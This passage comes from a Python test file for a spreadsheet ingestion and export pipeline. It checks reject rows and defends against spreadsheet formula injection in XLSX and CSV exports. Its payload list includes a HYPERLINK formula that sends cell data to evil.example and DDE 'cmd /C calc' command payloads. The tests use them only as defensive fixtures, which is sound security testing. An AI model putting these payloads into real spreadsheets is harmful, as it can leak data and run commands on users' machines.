        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1, (result.returncode, result.stderr[-2000:])
    assert "Traceback" not in result.stderr and "memory allocation" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and result.stderr.rstrip().endswith(errors[0]), result.stderr
    message = errors[0]
    assert message.startswith(f"error: {tmp_path / name}"), message
    assert fragment in message and " — " in message, message  # what, and what to do
    assert time.perf_counter() - started < 30
    with duckdb.connect(str(db), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM deposits").fetchall() == [(0,)]
        assert con.execute("SELECT count(*) FROM ingested_files").fetchall() == [(0,)]


def test_an_over_long_cell_in_a_workbook_is_a_reject_row(tmp_path: Path) -> None:
    rows = [
        HEADER,
        ["甲" * 40_000, "100", "2024-05-01"],
        ["乙公司", "\x1b200", "2024-05-02"],
        ["丙公司", "1e309", "2024-05-03"],
    ]
    db, loaded, rejected = _ingest(tmp_path, "d.xlsx", _xlsx(rows))
    assert (loaded, rejected) == (0, 3)
    assert [(row, column) for row, column, _ in _reasons(db)] == [
        (2, "总承包单位"),
        (3, "实存金额(元)"),
        (4, "实存金额(元)"),
    ]


# ----- spreadsheet formula injection ---------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")  # \r comes back from XML as \n
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A published run of the sample world whose agency text (names, reasons, districts,
    evidence file names) is hostile: what an agency's extract can put in front of a
    spreadsheet."""
    db = tmp_path_factory.mktemp("formulas") / "s.duckdb"
    result = run_job(sample_config(db))
    with duckdb.connect(str(db)) as con:
        for number, lead_id in enumerate(result.leads["lead_id"].to_list()[:20]):
            payload = PAYLOADS[number % len(PAYLOADS)]
            con.execute(
                "UPDATE leads SET subject_name = ?, reason = ?, district = ? WHERE lead_id = ?",
                [payload, payload + " 理由", payload, lead_id],
            )
            con.execute(
                "UPDATE lead_evidence SET source_file = ? WHERE lead_id = ?", [payload, lead_id]
            )
    return db


def _leads(db: Path) -> pl.DataFrame:
    with Store.open(db, read_only=True) as store:
        run = store.latest_published_run()
        assert run is not None
        return query_frame(
            store.con, "SELECT * FROM leads WHERE run_id = ? ORDER BY rank", [run.run_id]
        )


def _check_workbook(path: Path) -> set[str]:
    """No cell is a formula; every text a spreadsheet could run is a text cell, marked so
    that editing it keeps it text. Returns the texts found."""
    workbook = openpyxl.load_workbook(path)
    found: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
                    found.add(cell.value)
    return found


def test_agency_text_is_never_a_formula_in_the_exported_workbook(
    hostile_run: Path, tmp_path: Path
) -> None:
    out = tmp_path / "leads.xlsx"
    export_leads(_leads(hostile_run), out)
    found = _check_workbook(out)
    for payload in PAYLOADS[:5]:  # unchanged: a text cell needs no escaping
        assert payload in found and payload + " 理由" in found


def test_agency_text_is_never_a_formula_in_the_report_workbook(
    hostile_run: Path, tmp_path: Path
) -> None:
    written = write_report(hostile_run, tmp_path / "report")
    found = _check_workbook(written.workbook)
    assert {payload for payload in PAYLOADS[:5]} <= found  # names and evidence file names


def test_agency_text_is_quoted_as_text_in_the_csv_export(hostile_run: Path, tmp_path: Path) -> None:
    """OWASP: a CSV cell starting with = + - @ tab or CR gets a leading single quote, which
    Excel and LibreOffice show as text; numbers (a negative score) are left alone."""
    out = tmp_path / "leads.csv"
    export_leads(_leads(hostile_run), out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {row["subject_name"] for row in rows}
    for payload in PAYLOADS:
        assert "'" + payload in names, payload
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                float(value)  # only a number may start with a minus
    parquet = tmp_path / "leads.parquet"
    export_leads(_leads(hostile_run), parquet)  # typed, for programs: unchanged
    assert set(PAYLOADS) <= set(pl.read_parquet(parquet)["subject_name"].to_list())
